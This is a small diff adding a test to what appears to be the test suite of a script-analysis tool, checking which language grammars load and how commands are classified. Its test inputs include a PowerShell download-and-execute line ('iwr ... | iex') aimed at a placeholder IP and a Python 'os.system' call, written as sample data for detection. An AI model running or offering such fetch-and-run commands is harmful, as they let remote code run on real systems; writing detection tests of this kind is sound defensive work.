@@ -44,6 +44,12 @@ describe('lowerScript before the grammars are loaded', () => {
   it('returns [] instead of throwing', () => {
     expect(py('import os\nos.system("id")')).toEqual([]);
   });
+
+  it('loads only the grammars asked for', async () => {
+    await loadLanguages(['python']);
+    expect(kinds(py('import os\nos.system("id")'))).toEqual(['exec']);
+    expect(ps('iwr http://192.0.2.1/x | iex')).toEqual([]);
+  });
 });
 
 describe('script languages', () => {
